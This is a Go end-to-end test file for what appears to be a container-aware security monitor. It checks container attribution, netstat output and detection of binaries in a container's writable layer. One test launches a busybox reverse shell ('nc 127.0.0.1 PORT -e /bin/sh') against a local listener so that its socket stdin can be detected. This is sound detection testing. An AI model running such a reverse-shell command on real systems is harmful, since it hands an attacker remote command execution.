package docker

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ruled/ruled/sources/enrichers/container"
	"github.com/ruled/ruled/sources/enrichers/netns"
	"github.com/ruled/ruled/sources/event"
	"github.com/ruled/ruled/test/e2e"
)

// An exec inside a container is attributed to that container: id from the
// cgroup, name and image from the Docker API through the resolver.
func TestExecAttributedToContainer(t *testing.T) {
	e2e.RequireDocker(t)
	c := runContainer(t, "sleep 300")
	if out, err := exec.Command("docker", "exec", "-d", c.ID, "sleep", "3001").CombinedOutput(); err != nil {
		t.Fatalf("docker exec: %v\n%s", err, out)
	}
	child := waitPID(t, c.ID, "sleep 3001", func(pid int) bool { return cmdline(pid) == "sleep 3001" })

	r := startResolver(t, container.NewDocker(container.DefaultDockerSocket))
	for _, pid := range []int{c.PID, child} {
		f, err := os.Open(fmt.Sprintf("/proc/%d/cgroup", pid))
		if err != nil {
			t.Fatal(err)
		}
		ref, err := container.ParseCgroup(f)
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
		if ref.ID != c.ID || ref.Runtime != event.RuntimeDocker {
			t.Errorf("pid %d: ParseCgroup = %+v, want id %s runtime docker", pid, ref, c.ID)
		}
	}
	// The id as the process table decides it from the cgroup read; the
	// first event queues the lookup, a later one carries the metadata.
	id := container.Decide(container.Clues{Now: r.ContainerID(child)})
	var ev event.Event
	eventually(t, 10*time.Second, "container name on the exec event", func() bool {
		ev = event.Event{Evt: event.Evt{Type: event.TypeExecve}, Proc: event.Proc{PID: child, Exe: "/bin/busybox"}}
		ev.Container.ID = id
		r.Enrich(&ev)
		return ev.Container.Name != ""
	})
	if ev.Container.ID != c.ID || ev.Container.Name != c.Name || ev.Container.Image != e2e.TestImage ||
		!strings.HasPrefix(ev.Container.ImageID, "sha256:") || ev.Container.Runtime != event.RuntimeDocker || ev.Container.Privileged {
		t.Errorf("container = %+v, want id %s name %s image %s", ev.Container, c.ID, c.Name, e2e.TestImage)
	}
	info, err := r.Lookup(context.Background(), c.ID)
	if err != nil || info.Name != c.Name {
		t.Errorf("Lookup = %+v, %v", info, err)
	}

	host := event.Event{Proc: event.Proc{PID: os.Getpid()}}
	host.Container.ID = container.Decide(container.Clues{Now: r.ContainerID(os.Getpid())})
	r.Enrich(&host)
	if host.Container.ID != event.HostID || host.Container.Name != "" {
		t.Errorf("host process: container = %+v, want host", host.Container)
	}
}

// A listener inside a container appears in ruled netstat with its container.
// busybox nc listens on an IPv6 wildcard socket ([::]:PORT in tcp6).
func TestNetstatShowsContainerListener(t *testing.T) {
	e2e.RequireDocker(t)
	bin := e2e.RuledBinary(t)
	const port = 17777
	c := runContainer(t, fmt.Sprintf("sleep 300 | nc -l -p %d", port))
	ncPID := waitPID(t, c.ID, "nc -l", func(pid int) bool { return strings.HasPrefix(cmdline(pid), "nc -l") })

	var found map[string]any
	eventually(t, 10*time.Second, "listener in ruled netstat -json", func() bool {
		out, err := exec.Command(bin, "netstat", "-json").Output()
		if err != nil {
			t.Fatalf("ruled netstat -json: %v", err)
		}
		sc := bufio.NewScanner(bytes.NewReader(out))
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var row map[string]any
			if err := json.Unmarshal(sc.Bytes(), &row); err != nil {
				t.Fatalf("bad JSON line %q: %v", sc.Text(), err)
			}
			if strings.HasSuffix(row["local"].(string), fmt.Sprintf(":%d", port)) && row["state"] == "LISTEN" && row["container_id"] == c.ID {
				found = row
				return true
			}
		}
		return false
	})
	if found["container_name"] != c.Name || found["pid"] != float64(ncPID) || found["exe"] != "/bin/busybox" || !strings.HasPrefix(found["proto"].(string), "tcp") {
		t.Errorf("netstat row = %v, want pid %d exe /bin/busybox container %s", found, ncPID, c.Name)
	}
	// The table form shows the same socket with the short id and name.
	out, err := exec.Command(bin, "netstat").Output()
	if err != nil {
		t.Fatalf("ruled netstat: %v", err)
	}
	var line string
	for _, l := range strings.Split(string(out), "\n") {
		if strings.Contains(l, fmt.Sprintf(":%d ", port)) {
			line = l
		}
	}
	if f := strings.Fields(line); len(f) != 8 || f[1] != "LISTEN" || f[4] != strconv.Itoa(ncPID) || f[6] != c.ID[:12] || f[7] != c.Name {
		t.Errorf("netstat table line %q", line)
	}
}

// A reverse shell's stdin is a socket whose remote end is the listener.
func TestReverseShellStdio(t *testing.T) {
	e2e.RequireDocker(t)
	const port = 14444
	c := runContainer(t, fmt.Sprintf("sleep 300 | nc -l -p %d & sleep 0.5; nc 127.0.0.1 %d -e /bin/sh & sleep 300", port, port))
	// busybox nc -e execs the shell in the nc process: find the sh whose
	// stdin is a socket.
	shell := waitPID(t, c.ID, "shell on a socket", func(pid int) bool {
		return cmdline(pid) == "/bin/sh" && strings.HasPrefix(readlink(pid, "fd/0"), "socket:[")
	})
	target := readlink(shell, "fd/0")
	inode, err := strconv.ParseUint(strings.TrimSuffix(strings.TrimPrefix(target, "socket:["), "]"), 10, 64)
	if err != nil {
		t.Fatalf("fd/0 %q: %v", target, err)
	}
	cache := netns.NewCache(netns.Config{})
	var in event.Stdio
	cache.CompleteStdio(shell, 0, inode, &in)
	if in.Type != event.StdioSocket || in.L4Proto != "tcp" || in.RIP != "127.0.0.1" || in.RPort != port || in.SIP != "127.0.0.1" || in.SPort == 0 {
		t.Errorf("stdin = %+v, want tcp socket to 127.0.0.1:%d", in, port)
	}
	if want := fmt.Sprintf("127.0.0.1:%d->127.0.0.1:%d", in.SPort, port); in.Name != want {
		t.Errorf("stdin name = %q, want %q", in.Name, want)
	}
	// The same through Enrich, as a process table hands the event over.
	ev := event.Event{Evt: event.Evt{Type: event.TypeExecve}, Proc: event.Proc{PID: shell,
		Stdin: event.Stdio{Type: event.StdioSocket, Name: target}, Stdout: event.Stdio{Type: event.StdioSocket, Name: readlink(shell, "fd/1")}}}
	cache.Enrich(&ev)
	if ev.Proc.Stdin.RPort != port || ev.Proc.Stdout.RPort != port {
		t.Errorf("Enrich stdio = %+v / %+v", ev.Proc.Stdin, ev.Proc.Stdout)
	}
	// The host namespace does not have this socket: the lookup is per
	// namespace.
	if _, ok := cache.Socket(os.Getpid(), inode); ok {
		t.Error("container socket found in the host namespace")
	}
	// A connect event from the shell's side names only the remote end.
	cev := event.Event{Evt: event.Evt{Type: event.TypeConnect}, Proc: event.Proc{PID: shell}, FD: event.FD{Type: event.FDIPv4, RIP: "127.0.0.1", RPort: port}}
	cache.Enrich(&cev)
	if cev.FD.SPort != in.SPort || cev.FD.L4Proto != "tcp" || cev.FD.SIP != "127.0.0.1" {
		t.Errorf("connect fd = %+v, want local port %d", cev.FD, in.SPort)
	}
}

// A binary written into the container after start (busybox copied to
// /tmp/sleep, so that its argv[0] still names an applet) runs from the writable
// layer; the image's own binary does not.
func TestExeUpperLayer(t *testing.T) {
	e2e.RequireDocker(t)
	c := runContainer(t, "cp /bin/busybox /tmp/sleep && exec /tmp/sleep 300")
	eventually(t, 10*time.Second, "exec of /tmp/sleep", func() bool { return readlink(c.PID, "exe") == "/tmp/sleep" })
	if out, err := exec.Command("docker", "exec", "-d", c.ID, "sleep", "3002").CombinedOutput(); err != nil {
		t.Fatalf("docker exec: %v\n%s", err, out)
	}
	lower := waitPID(t, c.ID, "sleep 3002", func(pid int) bool { return cmdline(pid) == "sleep 3002" })

	tests := []struct {
		name string
		pid  int
		exe  string
		want bool
	}{
		{"copied to /tmp", c.PID, "/tmp/sleep", true},
		{"image binary", lower, "/bin/busybox", false},
		{"host process", os.Getpid(), readlink(os.Getpid(), "exe"), false},
	}
	r := container.NewResolver(container.Config{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := container.ExeUpperLayer(tt.pid, tt.exe)
			if err != nil || got != tt.want {
				t.Errorf("ExeUpperLayer(%d, %s) = %v, %v; want %v", tt.pid, tt.exe, got, err, tt.want)
			}
			ev := event.Event{Evt: event.Evt{Type: event.TypeExecve}, Proc: event.Proc{PID: tt.pid, Exe: tt.exe}}
			ev.Container.ID = r.ContainerID(tt.pid) // as the process table sets it
			r.Enrich(&ev)
			if ev.Proc.ExeUpperLayer != tt.want {
				t.Errorf("Enrich: exe_upper_layer = %v, want %v", ev.Proc.ExeUpperLayer, tt.want)
			}
		})
	}
}
